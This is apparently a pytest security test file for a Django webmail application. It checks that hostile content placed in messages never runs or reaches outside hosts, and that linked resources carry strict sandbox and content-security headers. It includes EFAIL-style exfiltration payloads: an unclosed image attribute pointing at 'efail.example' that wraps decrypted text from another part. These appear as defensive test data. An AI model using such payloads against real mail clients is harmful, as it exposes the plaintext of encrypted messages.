"""Every hostile text in every place of a message, through the pages that people read: nothing runs, nothing leaves."""

from __future__ import annotations

import re
from concurrent.futures import ThreadPoolExecutor

import pytest
from django.db import connections
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse

from accounts.models import User
from tests.factories import make_account, make_mailbox, make_user
from tests.security import letters
from tests.security.conftest import OpenWatch
from tests.security.lane import IS_FULL, SLICES, chosen, slice_of
from tests.security.listeners import Listeners
from tests.security.reading import Tour
from tests.security.stage import conversations, deliver
from tests.security.stand import Stand, batches
from tests.security.vectors import Vector
from tests.security.watch import tell
from tests.web.browser.conftest import Site
from tests.web.pages import client_of
from webmail.store.models import Mailbox

pytestmark = [
    pytest.mark.browser,
    pytest.mark.corpus,
    pytest.mark.timeout(900),
    *(pytest.mark.req(number) for number in ("R1", "R2", "R5", "R7", "R9", "R10", "R11", "R13", "R17")),
]

BATCH = 40


@pytest.fixture
def alice(transactional_db: None) -> User:
    return make_user()


@pytest.fixture
def inbox(alice: User) -> Mailbox:
    return make_mailbox(make_account(alice), "Inbox", role="inbox")


def thread(email: object) -> str:
    return reverse("thread", args=[email.thread.public_id])  # type: ignore[attr-defined]


@pytest.mark.parametrize("number", range(SLICES))
def test_nothing_in_any_place_of_a_message_runs_or_leaves(
    number: int,
    own: list[Vector],
    public: list[Vector],
    alice: User,
    inbox: Mailbox,
    site: Site,
    stand: Stand,
    open_watch: OpenWatch,
    listeners: Listeners,
) -> None:
    vectors = slice_of([*own, *chosen(public)], number)
    found = deliver(inbox, [letters.everywhere(one, number=at) for at, one in enumerate(vectors)])
    watch = open_watch(site.address, alice)
    tour = Tour(watch, watch.new_page())
    tour.walk("/mail/inbox", following="#more a")
    for group in conversations(found):
        tour.visit(thread(group[0]))

    assert watch.seen == [], tell(watch.seen)
    assert (listeners.names, listeners.connections) == ([], [])
    # The watch saw what it was to see: a frame for nearly each message (some texts leave nothing to show).
    assert len(tour.bodies) > 0.8 * len(vectors)
    print(f"slice {number}: {len(vectors)} texts, {tour.pages} pages, {len(tour.bodies)} frames")
    # The cleaner alone is enough: the served bytes in a document without sandbox and policy.
    bare = open_watch(stand.address)
    show_bare(client_of(alice), tour.bodies, site, stand, bare)
    assert bare.seen == [], tell(bare.seen)
    assert (listeners.names, listeners.connections) == ([], [])


def show_bare(client: Client, addresses: list[str], site: Site, stand: Stand, watch: object) -> None:
    """The documents behind these addresses, side by side and without any protection."""
    for some in batches(addresses, BATCH):
        documents = {str(at): client.get(address.removeprefix(site.address)).content for at, address in enumerate(some)}
        assert all(b"<body" in one for one in documents.values())
        page = watch.new_page()  # type: ignore[attr-defined]
        stand.show(page, documents, {})
        assert len(page.main_frame.child_frames) == len(documents)
        page.close()


@pytest.mark.req("R21")
def test_whatever_a_message_links_to_is_inert(
    own: list[Vector], alice: User, inbox: Mailbox, site: Site, open_watch: OpenWatch, listeners: Listeners
) -> None:
    own = own if IS_FULL else own[::3]
    found = deliver(inbox, [letters.everywhere(one, number=at) for at, one in enumerate(own)])
    watch = open_watch(site.address, alice)
    tour = Tour(watch, watch.new_page())
    links: dict[str, None] = {}
    for group in conversations(found):
        tour.visit(thread(group[0]))
        links |= dict.fromkeys(tour.page.evaluate(LINKS))
    assert len(links) > 8 * len(own)
    client = client_of(alice)
    opened = 0
    for at, (link, response) in enumerate(zip(links, answers(client, list(links)), strict=True)):
        assert response.status_code in {200, 302, 404}, link  # 404: a small picture of what is none
        if response.status_code != 302 and not is_held(response):
            pytest.fail(f"{link}: {response.headers}")
        is_shown = response.status_code == 200 and not response.headers.get("Content-Disposition", "").startswith(
            "attachment"
        )
        if is_shown and at % EVERY == 0:
            tour.page.goto(link, wait_until="load")
            watch.look_at(tour.page, is_page="sandbox" not in response.headers["Content-Security-Policy"], where=link)
            opened += 1
    assert opened > 5
    assert watch.seen == [], tell(watch.seen)
    assert (listeners.names, listeners.connections) == ([], [])
    print(f"{len(links)} links, {opened} opened")


def answers(client: Client, links: list[str]) -> list[HttpResponse]:
    """The answers to all of these, asked for in a thread without the browser's loop, which streamed ones do not stand."""

    def ask() -> list[HttpResponse]:
        try:
            return [client.get(link) for link in links]
        finally:
            connections.close_all()

    with ThreadPoolExecutor(1) as pool:
        return pool.submit(ask).result()


# Every address of ours that stands in the reading pane.
LINKS = """() => [...document.querySelectorAll(".message a[href], .message img[src], .message iframe.message__frame, .message embed[src], .message object[data]")]
    .map(node => new URL(node.href || node.src || node.data, location.href)).filter(url => url.origin === location.origin).map(url => url.pathname + url.search)"""
EVERY = 7  # one in so many is opened in the browser


def is_held(response: HttpResponse) -> bool:
    """Ours, under our policy for pages; or a stranger's, in a sandbox and of a type that no browser takes for a document."""
    policy = response.headers["Content-Security-Policy"]
    if response.headers["X-Content-Type-Options"] != "nosniff":
        return False
    if "sandbox" in policy:
        kind = response.headers["Content-Type"].partition(";")[0]
        is_body = "allow-popups" in policy and kind == "text/html"
        return (
            "default-src 'none'" in policy
            and "allow-scripts" not in policy
            and (is_body or not re.search("html|xml|svg|script", kind))
        )
    return "script-src" in policy and "unsafe" not in policy


HEAD = b"From: Ben <ben@example.net>\r\nTo: box@example.org\r\nSubject: efail %d\r\nMIME-Version: 1.0\r\nContent-Type: multipart/%b; boundary=outer\r\n\r\n"
OPENING = b'<img src="https://efail.example/?'
SECRET = b"SECRETWORDS of a part that was opened"
# What stands between the two halves of an attribute: text, HTML, an encrypted part, an armoured text (direct exfiltration, and what
# the CBC and CFB gadgets leave in a part once it is opened: an attribute that begins before the words and ends behind them).
BETWEEN = (
    (b"Content-Type: text/plain\r\n", SECRET),
    (b"Content-Type: text/html\r\n", b"<p>" + SECRET + b"</p>"),
    (b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n", b"0\x80" + SECRET),
    (b"Content-Type: text/plain\r\n", b"-----BEGIN PGP MESSAGE-----\n\n" + SECRET + b"\n-----END PGP MESSAGE-----\n"),
    (b"Content-Type: text/html\r\n", b'garbled <base \x8f" ignore="' + OPENING + SECRET + b'"> garbled'),
)


@pytest.mark.req("R16")
def test_no_part_gets_into_an_attribute_that_another_one_opened(
    alice: User, inbox: Mailbox, site: Site, open_watch: OpenWatch, listeners: Listeners
) -> None:
    raws = [
        HEAD % (at, kind)
        + b"".join(
            b"--outer\r\n" + letters.part(*one)
            for one in ((b"Content-Type: text/html\r\n", OPENING), between, (b"Content-Type: text/html\r\n", b'">'))
        )
        + b"--outer--\r\n"
        for at, between in enumerate(BETWEEN)
        for kind in (b"mixed", b"related")
    ]
    watch = open_watch(site.address, alice)
    tour = Tour(watch, watch.new_page())
    frames = tour.visit(thread(conversations(deliver(inbox, raws))[0][0]))
    inside = "() => [...document.querySelectorAll('*')].flatMap(node => [...node.attributes]).map(one => one.value).join(' ')"
    assert all("SECRETWORDS" not in frame.evaluate(inside) for frame in [*frames, tour.page.main_frame])
    texts = [frame.evaluate("() => document.body.innerText") for frame in frames]
    assert any("SECRETWORDS" in text for text in [*texts, tour.page.inner_text(".thread")])
    assert watch.seen == [], tell(watch.seen)
    assert (listeners.names, listeners.connections) == ([], [])
